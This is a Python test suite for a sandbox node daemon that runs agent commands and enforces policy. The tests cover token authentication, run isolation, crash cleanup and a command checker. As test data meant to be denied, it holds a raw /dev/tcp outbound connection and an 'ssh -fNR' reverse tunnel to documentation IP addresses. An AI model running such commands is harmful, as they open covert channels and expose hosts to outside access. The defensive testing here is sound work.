"""The node daemon, end to end: real sessions behind a real unix socket.

Each security claim is tried: a client without the token, a run token used for another
run, a trainer that disappears with a call running, a daemon killed under its sessions.
"""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from bastion.daemon import AsyncNodeClient, NodeClient, NodeUnavailable
from bastion.daemon.protocol import NodeAddress, NotAuthorized
from bastion.daemon.server import NodeServer, NodeStartError
from tests.conftest import wait_for

pytestmark = pytest.mark.needs_root


def _session_dirs(state_dir: Path) -> list[str]:
    return sorted(p.name for p in (state_dir / "sessions").glob("s-*"))


def test_a_call_through_the_node_is_judged_and_recorded(node: NodeServer,
                                                        state_dir: Path) -> None:
    client = NodeClient.for_state_dir(state_dir)
    with client.session(run_id="r-node", episode_id="e1") as s:
        r = s.exec("echo hi; echo err >&2; exit 3", step=0)
        assert (r.stdout, r.stderr, r.exit_code) == ("hi\n", "err\n", 3)
        data = bytes(range(256)) * 3
        assert s.write_file("/workspace/blob.bin", data, step=1).ok
        content, read = s.read_file("/workspace/blob.bin", step=2)
        assert content == data and read.ok
        # a forbidden connection: denied in the sandbox, the verdict reaches the trainer
        r = s.exec("exec 3<>/dev/tcp/203.0.113.33/3333", step=3)
        assert r.exit_code != 0
        assert any(v.call_id == "c3" and v.step == 3 for v in r.verdicts), r.verdicts
        assert s.poll_verdicts(), "verdicts are also readable by index"
        sid = s.session_id
    assert sid not in _session_dirs(state_dir)  # closed with the handle
    # recorded in the run's trail by the daemon: the verdict, charged to its call
    from bastion.audit.reader import RunLog
    from bastion.audit.store import list_run_dbs

    dbs = [p for p in list_run_dbs(state_dir / "audit") if p.stem == "r-node"]
    assert dbs, list_run_dbs(state_dir / "audit")
    with RunLog(dbs[0]) as log:
        verdicts = [r.verdict() for r in log.records(types=("verdict",))]
    assert any(v.call_id == "c3" and v.session_id == sid for v in verdicts), verdicts


def test_clients_without_the_token_are_refused(node: NodeServer, state_dir: Path) -> None:
    path = NodeAddress(state_dir).published_socket()
    assert path is not None and (path.stat().st_mode & 0o777) == 0o600
    with pytest.raises(NotAuthorized):
        NodeClient(path, "not-the-token").session()
    # a client that speaks something else is answered with an error and dropped
    with socket.socket(socket.AF_UNIX) as raw:
        raw.connect(str(path))
        raw.sendall(b'{"op": "open", "id": 1}\n')
        reply = raw.makefile("rb").readline()
        assert b'"ok":false' in reply and b"hello" in reply
        assert raw.recv(1) == b""  # closed
    with socket.socket(socket.AF_UNIX) as raw:
        raw.connect(str(path))
        raw.sendall(b"\x00\xff not json\n")
        assert b'"ok":false' in raw.makefile("rb").readline()
    assert _session_dirs(state_dir) == []
    assert NodeClient.for_state_dir(state_dir).ping()["sessions"] == 0


def test_a_run_token_opens_sessions_of_its_run_only(node: NodeServer, state_dir: Path) -> None:
    admin = NodeClient.for_state_dir(state_dir)
    trainer = NodeClient(admin.socket_path, admin.run_token("run-a"))
    with trainer.session(episode_id="e1") as s:
        assert s.run_id == "run-a"
    with pytest.raises(NotAuthorized):
        trainer.session(run_id="run-b")
    with pytest.raises(NotAuthorized):
        trainer.run_token("run-b")
    assert _session_dirs(state_dir) == []


def test_a_trainer_that_disappears_leaves_nothing_running(node: NodeServer,
                                                          state_dir: Path) -> None:
    client = NodeClient.for_state_dir(state_dir)
    s = client.session(run_id="r-gone")
    assert s.exec("nohup sleep 300 >/dev/null 2>&1 &", step=0).ok
    sid = s.session_id
    assert sid in _session_dirs(state_dir)
    s._conn._sock.shutdown(socket.SHUT_RDWR)  # the trainer process died: its socket closed
    assert wait_for(lambda: sid not in _session_dirs(state_dir), timeout=30), \
        "the session of a vanished client was not closed"
    assert client.ping()["sessions"] == 0


def test_cancelling_an_await_kills_the_call(node: NodeServer, state_dir: Path) -> None:
    async def main() -> tuple[str, str]:
        client = AsyncNodeClient.for_state_dir(state_dir)
        async with await client.session(run_id="r-async") as s:
            task = asyncio.create_task(s.exec("sleep 30; echo late > /workspace/late",
                                              step=0))
            # cancel once `sleep 30` runs in the sandbox (seen by the node's session),
            # so the kill is what is tested, whatever the machine's speed
            served = next(c.sessions[s.session_id] for c in list(node._clients)
                          if s.session_id in c.sessions)
            deadline = asyncio.get_running_loop().time() + 60
            while not any(e.kind.value == "exec" and e.fields.get("proc.args") == ["sleep", "30"]
                          for e in list(served.session.events)):
                assert asyncio.get_running_loop().time() < deadline, "sleep 30 never started"
                await asyncio.sleep(0.02)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task
            # the call is gone: nothing of it is still running, and it never finished
            after = await s.exec("ps -eo args; ls /workspace", step=1)
            # the next call, concurrently on the same loop, is unaffected
            results = await asyncio.gather(*(s.exec(f"echo {i}", step=2 + i)
                                             for i in range(8)))
            assert [r.stdout for r in results] == [f"{i}\n" for i in range(8)]
            return after.stdout, after.stderr

    out, err = asyncio.run(main())
    assert "ps -eo args" in out, (out, err)  # the listing ran
    assert "sleep 30" not in out and "late" not in out, (out, err)


def test_one_daemon_per_state_dir(node: NodeServer, state_dir: Path) -> None:
    with pytest.raises(NodeStartError, match="already serves"):
        asyncio.run(NodeServer(state_dir).serve())


def test_a_killed_daemon_is_noticed_and_its_sessions_removed(state_dir: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")}
    cmd = [sys.executable, "-m", "bastion", "node", "--state-dir", str(state_dir)]
    daemon = subprocess.Popen(cmd, env=env, stderr=subprocess.PIPE)
    try:
        client = wait_for(lambda: NodeClient.running(state_dir), timeout=60)
        assert client is not None
        s = client.session(run_id="r-crash")
        assert s.exec("nohup sleep 300 >/dev/null 2>&1 &", step=0).ok
        sid = s.session_id
        daemon.send_signal(signal.SIGKILL)
        daemon.wait(timeout=30)
        with pytest.raises(NodeUnavailable) as info:
            s.exec("true", step=1)
        assert info.value.infra_failed  # the trainer is told: not the agent's doing
        assert sid in _session_dirs(state_dir)  # left behind by the dead daemon
    finally:
        if daemon.poll() is None:
            daemon.kill()
            daemon.wait()
    restarted = subprocess.Popen(cmd, env=env, stderr=subprocess.PIPE)
    try:
        assert wait_for(lambda: NodeClient.running(state_dir), timeout=60)
        assert sid not in _session_dirs(state_dir)
        from bastion.sandbox import CgroupHost
        from bastion.sandbox.cleanup import cgroup_prefix

        assert not (CgroupHost.detect(cgroup_prefix(state_dir)).unified / sid).exists()
    finally:
        restarted.send_signal(signal.SIGTERM)
        assert restarted.wait(timeout=60) == 0
    assert NodeAddress(state_dir).published_socket() is None  # unpublished on exit


def test_bastion_run_goes_through_a_running_node(node: NodeServer, state_dir: Path) -> None:
    env = {**os.environ, "BASTION_STATE_DIR": str(state_dir)}
    r = subprocess.run([sys.executable, "-m", "bastion", "run", "--json", "--", "echo", "hi"],
                       capture_output=True, text=True, timeout=120, env=env, check=False)
    assert r.returncode == 0, r.stderr
    import json

    payload = json.loads(r.stdout)
    assert payload["stdout"] == "hi\n" and payload["node"] is True


def test_bastion_check_goes_through_a_running_node(node: NodeServer, state_dir: Path) -> None:
    import json

    env = {**os.environ, "BASTION_STATE_DIR": str(state_dir)}
    lines = "ls -la\nssh -fNR 9000:localhost:22 user@203.0.113.5\n"
    r = subprocess.run([sys.executable, "-m", "bastion", "check", "--json"], input=lines,
                       capture_output=True, text=True, timeout=120, env=env, check=False)
    assert r.returncode == 0, r.stderr
    out = [json.loads(x) for x in r.stdout.splitlines()]
    assert [o["decision"] for o in out] == ["allow", "deny"]
    assert NodeClient.for_state_dir(state_dir).ping()["checked"] == 1  # answered by the node
    # a bad line: the lines before it are still printed, then one clear error
    r = subprocess.run([sys.executable, "-m", "bastion", "check", "--json"],
                       input='ls\n{"cmd": 5}\n', capture_output=True, text=True, timeout=120,
                       env=env, check=False)
    assert r.returncode == 2 and "line 2" in r.stderr and "cmd" in r.stderr, r.stderr
    assert [json.loads(x)["cmd"] for x in r.stdout.splitlines()] == ["ls"]
